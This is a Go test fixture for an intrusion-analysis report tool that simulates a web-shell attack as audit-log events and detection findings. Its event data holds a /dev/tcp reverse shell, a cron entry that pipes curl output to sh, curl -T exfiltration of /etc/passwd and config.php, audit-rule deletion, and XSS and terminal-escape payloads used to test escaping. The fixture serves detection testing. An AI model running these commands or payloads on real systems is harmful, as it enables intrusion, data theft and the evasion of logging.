package report

import (
	"fmt"
	"strings"
	"time"

	"github.com/auditchain/auditchain/detect"
	"github.com/auditchain/auditchain/parser"
	"github.com/auditchain/auditchain/timeline"
)

// The fixture is a web-shell intrusion on host web01, built the way the
// pipeline builds it: hand-made events fed through parser.NewTree and
// Observe (so processes, ancestry and pid reuse rules are real), findings
// and the chain written by hand as detect and timeline would.
//
//	php-fpm master 900 ─ worker 901 (www-data) writes shell.php      F0001 stage 2
//	                       ├─ sh -c id (1200) ─ id (1201)                F0002 stage 3
//	                       └─ sh -c 'bash -i >& /dev/tcp/…' (1210)       F0003 stage 4
//	                          └─ bash -i (1211) connects 203.0.113.7     F0004 stage 7
//	                             ├─ python3 -c <hostile argv> (1220)     F0005 stage 7
//	                             ├─ sh -c 'echo … > crontab' (1230)      F0006 stage 5
//	                             ├─ tar (1240), curl -T (1241)           F0007 stage 8
//	                             └─ sh -c 'while :; do sleep 60; done'   (no finding)
//	sshd 1290 ─ auditctl -D (1300)                                       F0008 tampering
//
// The hostile argv carries terminal escapes (title change, screen clear),
// markup that would run script if it were not escaped, a javascript: URL
// and bytes that are not UTF-8.

// fixtureT0 is the time of the upload request.
var fixtureT0 = time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)

// hostileArgs is the argv of F0005.
func hostileArgs() []string {
	return []string{
		"python3", "-c",
		"\x1b]0;pwned\x07\x1b[2J\x1b[31mimport os\tos.system('id')\n<script>window.__pwned=1;alert(1)</script>",
		"<img src=x onerror=\"window.__pwned=1;alert(1)\">",
		"javascript:alert(document.cookie)",
		"\u202egnp.exe",
		"bad\xff\xfebytes",
	}
}

// fixtureOptions shapes the fixture for the diff tests.
type fixtureOptions struct {
	// early stops the attack after the reverse shell's commands: no cron
	// job, no exfiltration (last night's report).
	early bool
	// scan adds a low-severity scanner finding that a later run no longer
	// reports.
	scan bool
	// idle delays everything from the interpreter run on (90 s after the
	// upload) by this long: the attacker came back later (the chart's gap).
	idle time.Duration
	// links gives the request links their basis, as timeline makes them,
	// and adds two requests that fit the reverse shell's spawn equally
	// (an ambiguous link).
	links bool
}

type fixture struct {
	idle  time.Duration // added to every time from idleFrom on
	tree  *parser.Tree
	line  map[string]int
	input map[string]*parser.Input
}

// ev builds an event with its evidence at the next line of file, feeds it to
// the tree and returns it.
func (fx *fixture) ev(file string, e parser.Event, raw ...string) *parser.Event {
	e.Host = "web01"
	if e.Source == "" {
		e.Source = "auditd"
	}
	fx.line[file]++
	ln := fx.line[file]
	fx.line[file] += len(raw) - 1
	e.Evidence = []parser.Evidence{{
		Pos:    parser.Pos{File: file, Line: ln, Offset: int64(ln-1) * 180},
		Serial: e.Serial,
		Raw:    strings.Join(raw, "\n"),
	}}
	ev := &e
	fx.tree.Observe(ev)
	if in := fx.input[file]; in != nil {
		in.Records += len(raw)
		if in.First.IsZero() {
			in.First = e.Time
		}
		in.Last = e.Time
	}
	return ev
}

func at(d time.Duration) time.Time { return fixtureT0.Add(d) }

// idleFrom is where fixtureOptions.idle begins: after the reverse shell's
// first command.
const idleFrom = 90 * time.Second

// at is the fixture's time d after the upload, delayed by the idle stretch
// when d is past its start.
func (fx *fixture) at(d time.Duration) time.Time {
	if d >= idleFrom {
		d += fx.idle
	}
	return at(d)
}

// auditTS is the msg=audit(…) stamp of t.
func auditTS(t time.Time, serial uint64) string {
	return fmt.Sprintf("msg=audit(%d.%03d:%d)", t.Unix(), t.Nanosecond()/1e6, serial)
}

// execEvent is an execve with its SYSCALL, EXECVE, CWD and PROCTITLE records.
func (fx *fixture) exec(d time.Duration, serial uint64, pid, ppid int, uid uint32, user, exe, cwd string, args ...string) *parser.Event {
	t := fx.at(d)
	var argRec strings.Builder
	fmt.Fprintf(&argRec, "type=EXECVE %s: argc=%d", auditTS(t, serial), len(args))
	for i, a := range args {
		if needsHex(a) {
			fmt.Fprintf(&argRec, " a%d=%X", i, a)
		} else {
			fmt.Fprintf(&argRec, " a%d=%q", i, a)
		}
	}
	return fx.ev("/evidence/web01/audit.log", parser.Event{
		Kind: parser.KindExec, Time: t, Serial: serial, RecordType: "SYSCALL", Syscall: "execve",
		Arch: "x86_64", Success: true, Key: "exec", PID: pid, PPID: ppid,
		UID: parser.NewID(uid), EUID: parser.NewID(uid), GID: parser.NewID(uid),
		AUID: parser.NewID(parser.Unset), SES: parser.NewID(parser.Unset),
		Comm: baseName(exe), Exe: exe, Cwd: cwd, Args: args, User: user,
	},
		fmt.Sprintf("type=SYSCALL %s: arch=c000003e syscall=59 success=yes exit=0 ppid=%d pid=%d auid=4294967295 uid=%d gid=%d euid=%d ses=4294967295 comm=%q exe=%q key=\"exec\"",
			auditTS(t, serial), ppid, pid, uid, uid, uid, baseName(exe), exe),
		argRec.String(),
		fmt.Sprintf("type=CWD %s: cwd=%q", auditTS(t, serial), cwd),
		fmt.Sprintf("type=PROCTITLE %s: proctitle=%X", auditTS(t, serial), strings.Join(args, "\x00")),
	)
}

func needsHex(s string) bool {
	for i := 0; i < len(s); i++ {
		if s[i] <= ' ' || s[i] >= 0x7f || s[i] == '"' {
			return true
		}
	}
	return false
}

func (fx *fixture) write(d time.Duration, serial uint64, pid, ppid int, uid uint32, user, exe, path string) *parser.Event {
	t := fx.at(d)
	return fx.ev("/evidence/web01/audit.log", parser.Event{
		Kind: parser.KindFileWrite, Time: t, Serial: serial, RecordType: "SYSCALL", Syscall: "openat",
		Arch: "x86_64", Success: true, Exit: 5, Key: "web-write", PID: pid, PPID: ppid,
		UID: parser.NewID(uid), EUID: parser.NewID(uid), AUID: parser.NewID(parser.Unset), SES: parser.NewID(parser.Unset),
		Comm: baseName(exe), Exe: exe, User: user, Path: path,
		Paths: []parser.PathRecord{{Name: path, Nametype: "CREATE", Mode: 0o100644}},
	},
		fmt.Sprintf("type=SYSCALL %s: arch=c000003e syscall=257 success=yes exit=5 ppid=%d pid=%d auid=4294967295 uid=%d euid=%d ses=4294967295 comm=%q exe=%q key=\"web-write\"",
			auditTS(t, serial), ppid, pid, uid, uid, baseName(exe), exe),
		fmt.Sprintf("type=PATH %s: item=1 name=%q inode=393231 dev=fd:01 mode=0100644 ouid=%d ogid=%d nametype=CREATE", auditTS(t, serial), path, uid, uid),
		fmt.Sprintf("type=PROCTITLE %s: proctitle=%X", auditTS(t, serial), baseName(exe)),
	)
}

func (fx *fixture) connect(d time.Duration, serial uint64, pid, ppid int, uid uint32, user, exe, ip string, port int) *parser.Event {
	t := fx.at(d)
	return fx.ev("/evidence/web01/audit.log", parser.Event{
		Kind: parser.KindConnect, Time: t, Serial: serial, RecordType: "SYSCALL", Syscall: "connect",
		Arch: "x86_64", Success: true, Key: "net-out", PID: pid, PPID: ppid,
		UID: parser.NewID(uid), EUID: parser.NewID(uid), AUID: parser.NewID(parser.Unset), SES: parser.NewID(parser.Unset),
		Comm: baseName(exe), Exe: exe, User: user, Peer: parser.Addr{Family: "inet", IP: ip, Port: port},
	},
		fmt.Sprintf("type=SYSCALL %s: arch=c000003e syscall=42 success=yes exit=0 ppid=%d pid=%d auid=4294967295 uid=%d euid=%d ses=4294967295 comm=%q exe=%q key=\"net-out\"",
			auditTS(t, serial), ppid, pid, uid, uid, baseName(exe), exe),
		fmt.Sprintf("type=SOCKADDR %s: saddr=02001%03XCB00710700000000000000000", auditTS(t, serial), port),
		fmt.Sprintf("type=PROCTITLE %s: proctitle=%X", auditTS(t, serial), baseName(exe)),
	)
}

func (fx *fixture) http(d time.Duration, method, path, query string, status int) *parser.Event {
	t := fx.at(d)
	u := path
	if query != "" {
		u += "?" + query
	}
	return fx.ev("/evidence/web01/access.log", parser.Event{
		Kind: parser.KindHTTP, Time: t, Source: "access-log",
		HTTP: &parser.HTTPRequest{Client: "203.0.113.7", Method: method, Path: path, Query: query,
			Proto: "HTTP/1.1", Status: status, Bytes: 312, UserAgent: "Mozilla/5.0"},
	}, fmt.Sprintf(`203.0.113.7 - - [%s] "%s %s HTTP/1.1" %d 312 "-" "Mozilla/5.0"`, t.Format("02/Jan/2006:15:04:05 -0700"), method, u, status))
}

// attackCase builds the fixture's Case. Each call builds new values, so a
// test may not disturb another.
func attackCase(o fixtureOptions) *Case {
	auditIn := &parser.Input{Path: "/evidence/web01/audit.log", Format: parser.FormatAuditd,
		SHA256: strings.Repeat("a1", 32), Bytes: 1_482_113}
	accessIn := &parser.Input{Path: "/evidence/web01/access.log.1.gz", Format: parser.FormatAccessLog,
		Compression: "gzip", SHA256: strings.Repeat("b2", 32), Bytes: 88_402}
	fx := &fixture{idle: o.idle, tree: parser.NewTree(), line: map[string]int{},
		input: map[string]*parser.Input{auditIn.Path: auditIn, "/evidence/web01/access.log": accessIn}}
	// The fixture writes access-log evidence under the uncompressed name a
	// reader reports positions with; the input is the .gz given.
	fx.line["/evidence/web01/audit.log"] = 4100

	// The web server as it was before the attack.
	fx.exec(-2*time.Hour, 100, 900, 1, 0, "root", "/usr/sbin/php-fpm8.2", "/", "php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)")
	fx.exec(-2*time.Hour+time.Second, 101, 901, 900, 33, "www-data", "/usr/sbin/php-fpm8.2", "/", "php-fpm: pool www")
	fx.exec(-2*time.Hour+2*time.Second, 102, 902, 900, 33, "www-data", "/usr/sbin/php-fpm8.2", "/", "php-fpm: pool www")
	fx.exec(-90*time.Minute, 110, 1290, 1, 0, "root", "/usr/sbin/sshd", "/", "sshd: admin [priv]")

	var fs []*detect.Finding
	find := func(f detect.Finding) *detect.Finding {
		f.Host, f.Source = "web01", "rule"
		if f.Event != nil {
			f.Time = f.Event.Time
			f.Process = f.Event.Proc
		}
		fs = append(fs, &f)
		return &f
	}

	var scan *detect.Finding
	if o.scan {
		req := fx.http(-5*time.Minute, "GET", "/.env", "", 404)
		scan = find(detect.Finding{RuleID: "ac-web-scan", Title: "Scanner probing for secrets", Severity: detect.SeverityLow,
			Attack: []string{"T1595.002"}, Stage: detect.StageInitialAccess, Event: req,
			Reason: "a request for /.env from an address that later uploads a script"})
	}

	upload := fx.http(0, "POST", "/upload.php", "", 200)
	shellWrite := fx.write(time.Second, 4101, 901, 900, 33, "www-data", "/usr/sbin/php-fpm8.2", "/var/www/html/uploads/shell.php")
	f1 := find(detect.Finding{RuleID: "ac-webshell-write", Title: "Script written into the web root", Severity: detect.SeverityHigh,
		Attack: []string{"T1505.003"}, Stage: detect.StageWebshellUpload, Event: shellWrite, Related: []*parser.Event{upload},
		Reason: "the web server's account created a .php file under a served directory"})

	cmdReq := fx.http(30*time.Second, "GET", "/uploads/shell.php", "cmd=id%3B%3Cscript%3Ealert(1)%3C/script%3E", 200)
	idShell := fx.exec(31*time.Second, 4150, 1200, 901, 33, "www-data", "/usr/bin/dash", "/var/www/html/uploads", "sh", "-c", "id")
	fx.exec(31*time.Second+5*time.Millisecond, 4151, 1201, 1200, 33, "www-data", "/usr/bin/id", "/var/www/html/uploads", "id")
	f2 := find(detect.Finding{RuleID: "ac-web-shell-spawn", Title: "Web server ran a shell command", Severity: detect.SeverityMedium,
		Attack: []string{"T1059.004", "T1505.003"}, Stage: detect.StageCommandExecution, Event: idShell, Related: []*parser.Event{cmdReq},
		Reason: "php-fpm's worker ran sh -c with a recon command"})

	var near []*parser.Event // requests in flight when the reverse shell started
	if o.links {
		near = []*parser.Event{
			fx.http(59*time.Second, "GET", "/uploads/shell.php", "", 200),
			fx.http(59*time.Second+400*time.Millisecond, "POST", "/uploads/shell.php", "", 200),
		}
	}
	rev := fx.exec(60*time.Second, 4200, 1210, 901, 33, "www-data", "/usr/bin/dash", "/var/www/html/uploads",
		"sh", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")
	f3 := find(detect.Finding{RuleID: "ac-web-revshell", Title: "Reverse shell spawned by the web server", Severity: detect.SeverityCritical,
		Attack: []string{"T1059.004"}, Stage: detect.StageSuspiciousSpawn, Event: rev,
		Reason: "a web-server-spawned shell whose argv opens /dev/tcp"})

	bash := fx.exec(60*time.Second+3*time.Millisecond, 4201, 1211, 1210, 33, "www-data", "/usr/bin/bash", "/var/www/html/uploads", "bash", "-i")
	conn := fx.connect(60*time.Second+4*time.Millisecond, 4202, 1211, 1210, 33, "www-data", "/usr/bin/bash", "203.0.113.7", 4444)
	f4 := find(detect.Finding{RuleID: "ac-revshell-connect", Title: "Shell connected out (reverse shell)", Severity: detect.SeverityHigh,
		Attack: []string{"T1095", "T1059.004"}, Stage: detect.StageCommandAndControl, Event: conn, Related: []*parser.Event{bash},
		Reason: "an interactive shell with a socket to an external address"})

	py := fx.exec(90*time.Second, 4230, 1220, 1211, 33, "www-data", "/usr/bin/python3.11", "/tmp", hostileArgs()...)
	f5 := find(detect.Finding{RuleID: "ac-c2-interpreter", Title: "Interpreter run inside the reverse shell", Severity: detect.SeverityHigh,
		Attack: []string{"T1059.006", "not-a-technique\"><script>alert(1)</script>"}, Stage: detect.StageCommandAndControl, Event: py,
		Reason: "a child of the shell that holds the attacker's socket"})

	loop := fx.exec(100*time.Second, 4240, 1250, 1211, 33, "www-data", "/usr/bin/dash", "/tmp", "sh", "-c", "while :; do sleep 60; done")
	fx.exec(100*time.Second+2*time.Millisecond, 4241, 1251, 1250, 33, "www-data", "/usr/bin/sleep", "/tmp", "sleep", "60")
	_ = loop

	chainFs := []*detect.Finding{f1, f2, f3, f4, f5}
	var f6, f7 *detect.Finding
	if !o.early {
		cronSh := fx.exec(120*time.Second, 4300, 1230, 1211, 33, "www-data", "/usr/bin/dash", "/tmp",
			"sh", "-c", "echo '* * * * * curl -s http://203.0.113.7/b|sh' > /var/spool/cron/crontabs/www-data")
		cronW := fx.write(120*time.Second+time.Millisecond, 4301, 1230, 1211, 33, "www-data", "/usr/bin/dash", "/var/spool/cron/crontabs/www-data")
		f6 = find(detect.Finding{RuleID: "ac-cron-write", Title: "Cron job written", Severity: detect.SeverityHigh,
			Attack: []string{"T1053.003"}, Stage: detect.StagePersistence, Event: cronW, Related: []*parser.Event{cronSh},
			Reason: "a write under /var/spool/cron by the web account"})

		tar := fx.exec(150*time.Second, 4400, 1240, 1211, 33, "www-data", "/usr/bin/tar", "/tmp",
			"tar", "czf", "/tmp/.d.tgz", "/var/www/html/config.php", "/etc/passwd")
		curl := fx.exec(152*time.Second, 4410, 1241, 1211, 33, "www-data", "/usr/bin/curl", "/tmp",
			"curl", "-s", "-T", "/tmp/.d.tgz", "http://203.0.113.7:8080/u")
		up := fx.connect(152*time.Second+20*time.Millisecond, 4411, 1241, 1211, 33, "www-data", "/usr/bin/curl", "203.0.113.7", 8080)
		f7 = find(detect.Finding{RuleID: "ac-exfil-curl-upload", Title: "Archive staged and uploaded with curl -T", Severity: detect.SeverityHigh,
			Attack: []string{"T1048", "T1560.001"}, Stage: detect.StageExfiltrationImpact, Event: curl, Related: []*parser.Event{up, tar},
			Reason: "curl -T of a file the same shell archived seconds before"})
		chainFs = append(chainFs, f6, f7)
	}

	auditctl := fx.exec(5*time.Minute, 4500, 1300, 1290, 0, "root", "/usr/sbin/auditctl", "/root", "auditctl", "-D")
	cfg := fx.ev("/evidence/web01/audit.log", parser.Event{
		Kind: parser.KindConfig, Time: fx.at(5*time.Minute + 2*time.Millisecond), Serial: 4501, RecordType: "CONFIG_CHANGE",
		Op: "remove_rule", Message: "audit rules deleted", PID: 1300, AUID: parser.NewID(1000), SES: parser.NewID(7), Key: "(null)",
	}, fmt.Sprintf(`type=CONFIG_CHANGE %s: auid=1000 ses=7 subj=unconfined op=remove_rule key=(null) list=4 res=1`, auditTS(fx.at(5*time.Minute+2*time.Millisecond), 4501)))
	find(detect.Finding{RuleID: "ac-audit-rules-deleted", Title: "Audit rules deleted", Severity: detect.SeverityCritical,
		Attack: []string{"T1562.012"}, Stage: detect.StageNone, Event: cfg, Related: []*parser.Event{auditctl}, Tampering: true,
		Reason: "auditctl -D removes every rule: nothing after this is logged"})

	// Report order: time, then rule id.
	sortFindings(fs)

	ch := &timeline.Chain{
		ID: "C01", Host: "web01", Score: 92, Severity: detect.SeverityCritical,
		FirstSeen: f1.Time, LastSeen: chainFs[len(chainFs)-1].Time, Findings: chainFs,
		Roots: []*parser.Process{f2.Process.Parent}, // the worker that ran the shells
		Links: []string{
			"ancestry: every process descends from php-fpm worker 901",
			"account: www-data (uid 33) throughout",
			"peer: 203.0.113.7 uploaded shell.php and received the reverse shell",
		},
	}
	ch.Requests = []timeline.RequestLink{
		{Request: upload, Process: f1.Process, Worker: f1.Process, Event: shellWrite, File: shellWrite.Path,
			Confidence: "medium", Reason: "the only POST within 2s before php-fpm wrote the file"},
		{Request: cmdReq, Process: idShell.Proc, Worker: f1.Process, Event: idShell,
			Confidence: "high", Reason: "the query's cmd=id is the shell's command"},
	}
	if o.links {
		ch.Requests[0].Basis, ch.Requests[0].Inferred = timeline.BasisOnly, true
		ch.Requests[1].Basis = timeline.BasisParameter
		ch.Requests = append(ch.Requests, timeline.RequestLink{Process: rev.Proc, Worker: f1.Process, Event: rev,
			Basis: timeline.BasisAmbiguous, Inferred: true, Candidates: near, Confidence: "low",
			Reason: "ambiguous: 2 candidates (requests in flight when the process started)"})
	}
	if o.scan {
		ch.Findings = append([]*detect.Finding{scan}, ch.Findings...)
		ch.FirstSeen = scan.Time
	}
	for _, p := range fx.tree.Processes() {
		for a := p; a != nil; a = a.Parent {
			if a.Key.PID == 901 && p != a {
				ch.Processes = append(ch.Processes, p)
				break
			}
		}
	}
	for i := range ch.Stages {
		st := detect.Stage(i + 1)
		slot := timeline.Slot{Stage: st, Visibility: timeline.NotObserved,
			Reason: "the logs could have shown it and do not"}
		for _, f := range ch.Findings {
			if f.Stage == st {
				slot.Findings = append(slot.Findings, f)
				if slot.FirstSeen.IsZero() || f.Time.Before(slot.FirstSeen) {
					slot.FirstSeen = f.Time
				}
				if f.Time.After(slot.LastSeen) {
					slot.LastSeen = f.Time
				}
			}
		}
		if len(slot.Findings) > 0 {
			slot.Observed, slot.Visibility, slot.Confidence = true, timeline.Observed, timeline.ConfidenceObserved
			slot.Reason = fmt.Sprintf("%d finding(s)", len(slot.Findings))
		}
		switch st {
		case detect.StageWebshellUpload:
			slot.Requests = []*parser.Event{upload}
		case detect.StageInitialAccess:
			if !slot.Observed {
				slot.Observed, slot.Visibility, slot.Confidence = true, timeline.Observed, timeline.ConfidenceInferred
				slot.Reason = "inferred from the web shell upload (stage 2): the upload needed a way in"
				slot.FirstSeen, slot.LastSeen = f1.Time, f1.Time
			}
		case detect.StageLateralMovement:
			slot.Visibility = timeline.NotVisible
			slot.Reason = "no audit rule covers ssh, scp or connects to internal networks"
		}
		ch.Stages[i] = slot
	}

	auditIn.Malformed = 1
	auditIn.Errors.Add(&parser.Error{Pos: parser.Pos{File: auditIn.Path, Line: 4099}, Record: "type=SYSCALL msg=audit(1709632\x1b[2J", Err: parser.ErrHeader})
	return &Case{
		Name:        "IR-2024-031 web01 <b>compromise</b>",
		Examiner:    "J. Doe",
		Tool:        Tool{Name: "auditchain", Version: "0.4.0", RulesVersion: "sha256:" + strings.Repeat("5e", 8), BinarySHA256: strings.Repeat("c3", 32)},
		CommandLine: []string{"auditchain", "scan", "--case", "IR-2024-031 web01 <b>compromise</b>", "--reproducible", "/evidence/web01/"},
		GeneratedAt: time.Date(2024, 3, 6, 8, 30, 0, 0, time.UTC),
		Inputs:      []*parser.Input{auditIn, accessIn},
		Skipped:     []parser.SkippedInput{{Path: "/evidence/web01/lastlog", Reason: "no format we know (binary)"}},
		Hosts:       []string{"web01"},
		Findings:    fs,
		Chains:      []*timeline.Chain{ch},
		Descriptions: map[string]string{
			"ac-webshell-write":  "The web server's account writes a script under a served directory: a web shell lands.",
			"ac-web-shell-spawn": "A web server's worker starts a shell: web applications rarely need one, web shells always do.",
			"ac-web-revshell":    "A shell started by the web server redirects its input and output to a network socket (/dev/tcp): a reverse shell.",
		},
		Coverage: timeline.Coverage{
			RulesSource: "log",
			Syscalls:    []string{"execve", "connect", "openat", "execveat"},
			Watches:     []string{"/var/www/html", "/etc/cron.d", "/var/spool/cron"},
			AccessLog:   true,
			RuleKeys:    []string{"exec", "net-out", "web-write", "cron"},
			Rules:       9,
			Notes:       []string{"syscalls inferred from the keys of CONFIG_CHANGE records"},
			Tampering:   []string{"audit rules deleted by auid 1000 (ses 7) at 2024-03-05T10:05:00.002Z; no records follow"},
		},
		Tree:  fx.tree,
		Stats: Stats{Events: 7342, Records: 20113, Processes: fx.tree.Len(), Malformed: 1, Duration: 1234 * time.Millisecond},
	}
}

// sortFindings puts findings in report order: time, rule id.
func sortFindings(fs []*detect.Finding) {
	for i := 1; i < len(fs); i++ {
		for j := i; j > 0 && lessFinding(fs[j], fs[j-1]); j-- {
			fs[j], fs[j-1] = fs[j-1], fs[j]
		}
	}
}

func lessFinding(a, b *detect.Finding) bool {
	if !a.Time.Equal(b.Time) {
		return a.Time.Before(b.Time)
	}
	return a.RuleID < b.RuleID
}
